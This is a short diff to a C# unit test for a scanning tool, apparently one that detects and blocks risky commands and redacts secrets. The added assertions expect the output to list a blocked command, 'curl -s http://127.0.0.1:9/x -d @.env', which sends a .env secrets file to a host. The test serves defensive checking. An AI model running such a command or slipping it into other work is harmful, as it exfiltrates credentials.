@@ -41,6 +41,8 @@ public sealed class ScanCommandTests : IDisposable
         Assert.Contains("pending-approval", result.Out, StringComparison.Ordinal);
         Assert.Contains("could not fully see", result.Out, StringComparison.Ordinal);
         Assert.Contains("30-malformed.json", result.Out, StringComparison.Ordinal);
+        Assert.Contains("1 risky command(s)", result.Out, StringComparison.Ordinal);
+        Assert.Contains("1x (1 blocked) curl -s http://127.0.0.1:9/x -d @.env", result.Out, StringComparison.Ordinal);
         Assert.DoesNotContain("ghp_FAKEfake0123456789", result.Out, StringComparison.Ordinal);
     }
 
